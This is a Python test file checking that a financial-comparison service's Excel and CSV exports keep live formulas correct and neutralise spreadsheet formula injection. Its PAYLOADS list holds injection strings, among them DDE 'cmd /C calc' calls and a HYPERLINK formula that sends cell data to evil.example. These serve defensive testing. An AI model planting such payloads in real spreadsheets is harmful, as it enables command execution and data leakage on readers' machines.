"""Workbooks and CSV of comparisons: live formulas that compute the same values, and text that is never code."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal
from pathlib import Path

import formulas
import openpyxl
import pytest

from services.gateway.compare.comparison_json import ComparisonJson, comparison_json
from services.gateway.compare.write_csv import write_csv
from services.gateway.compare.write_workbook import write_workbook
from tests.support.compared import REPORT, a_comparison

BASE = "http://127.0.0.1:8600"
PAYLOADS = (
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点这里\")",
    "=WEBSERVICE(\"http://evil.example\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\x00=1+1",
    "\x1b[31m=1+1\x07",
    "\u202e=1+1",
    "{=1+1}",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "';=1+1//\",=1+1,\"",
    "http://evil.example/",
    "internal:'数据'!A1",
    "mailto:a@evil.example",
    "<script>alert(1)</script>",
    "\ud800=1+1",
)  # fmt: skip


def written(comparison: ComparisonJson) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(write_workbook(comparison, BASE)))


def table(sheet, keys: int) -> dict[tuple[str, str, str], openpyxl.cell.Cell]:
    head = [each.value for each in sheet[1]]
    return {
        (row[0].value, row[2].value, head[column]): row[column]
        for row in sheet.iter_rows(min_row=2)
        for column in range(keys, len(head))
        if row[column].value is not None
    }


def test_derived_metrics_are_live_formulas_that_compute_the_values_of_the_api(tmp_path: Path) -> None:
    comparison = comparison_json(a_comparison(), "default")
    path = tmp_path / "compare.xlsx"
    path.write_bytes(write_workbook(comparison, BASE))
    # Computed by another program than the one that wrote it, from the formulas alone.
    model = formulas.ExcelModel().loads(str(path)).finish()
    solution = model.calculate()
    cells = table(openpyxl.load_workbook(path)["指标"], 4)
    checked = 0
    for value in comparison.values:
        cell = cells[value.company, value.metric, value.period]
        if value.value is None:
            assert cell.value == "—"
            continue
        assert isinstance(cell.value, str)
        assert cell.value.startswith("=")
        computed = solution[f"'[compare.xlsx]指标'!{cell.coordinate}"].value[0, 0]
        if value.metric == "注册地址":
            assert computed == value.value
        else:
            assert float(computed) == pytest.approx(float(Decimal(value.value)), rel=1e-12)
        checked += 1
    assert checked == 18


def test_values_are_shown_before_anything_recalculates() -> None:
    comparison = comparison_json(a_comparison(), "default")
    kept = openpyxl.load_workbook(io.BytesIO(write_workbook(comparison, BASE)), data_only=True)
    cells = table(kept["指标"], 4)
    assert cells["600001", "毛利率", "2020"].value == pytest.approx(0.39999999835)
    assert cells["600001", "毛利率", "2020"].number_format == "0.00%"
    assert cells["600001", "营业收入", "2020"].number_format == "#,##0.00"


def test_each_input_is_a_number_linked_to_its_page_with_its_passport() -> None:
    book = written(comparison_json(a_comparison(), "default"))
    cell = table(book["数据"], 5)["600001", "营业收入", "2021"]
    assert (cell.value, cell.data_type) == (250000000.10, "n")
    assert cell.hyperlink.target == f"{BASE}/v1/reports/{REPORT}/pages/66.png?box=10.0,20.0,30.0,40.0"
    for said in ("600001_2021.pdf 第66页", "原文：250000000.10", "行：其中：营业收入", "revenue=components:pass"):
        assert said in cell.comment.text
    sources = {row[2].value: row for row in book["来源"].iter_rows(min_row=2) if row[0].value == "000002"}
    assert sources["营业收入"][5].value == "12345678901234.56"


def test_a_missing_value_says_why_beside_the_cell_and_on_its_own_sheet() -> None:
    book = written(comparison_json(a_comparison(), "default"))
    cell = table(book["指标"], 4)["000002", "营业收入增长率", "2020"]
    assert (cell.value, cell.comment.text.strip()) == ("—", "没有收录云岭科技2019年的报告")
    notes = [row[4].value for row in book["缺失与提示"].iter_rows(min_row=2)]
    assert "没有收录云岭科技2019年的报告" in notes
    assert any("重述" in note for note in notes)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_names_and_printed_texts_are_never_formulas_or_links(payload: str) -> None:
    content = write_workbook(comparison_json(a_comparison(payload, payload), "default"), BASE)
    book = openpyxl.load_workbook(io.BytesIO(content))
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        targets = [part for part in parts.namelist() if part.endswith(".rels")]
        links = b"".join(parts.read(part) for part in targets)
        assert not any("externalLink" in part or "vbaProject" in part for part in parts.namelist())
    assert b"evil" not in links
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    # Our own: a reference, or arithmetic over references.
                    assert sheet.title == "指标"
                    assert set(cell.value) <= set("=数据!()+-*/.0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ")
                elif isinstance(cell.value, str):
                    assert cell.value.isprintable()
                    if cell.value.lstrip()[:1] in tuple("=+-@"):
                        assert cell.quotePrefix
                        assert cell.data_type == "s"
                if cell.hyperlink is not None:
                    assert cell.hyperlink.target.startswith(f"{BASE}/v1/reports/")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_of_a_csv_begins_like_a_formula(payload: str) -> None:
    content = write_csv(comparison_json(a_comparison(payload, payload), "default"))
    assert content.startswith(b"\xef\xbb\xbf")
    lines = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    assert len(lines) == 20
    for line in lines:
        for name, text in line.items():
            if name == "数值" and line["指标"] != "注册地址":
                assert not text or Decimal(text).is_finite()
                continue
            assert text.strip()[:1] not in tuple("=+-@＝＋－＠\t\r\n")
            assert "\x00" not in text
    assert {line["数值"] for line in lines if line["指标"] == "营业收入"} >= {"-3000.5", "12345678901234.56"}
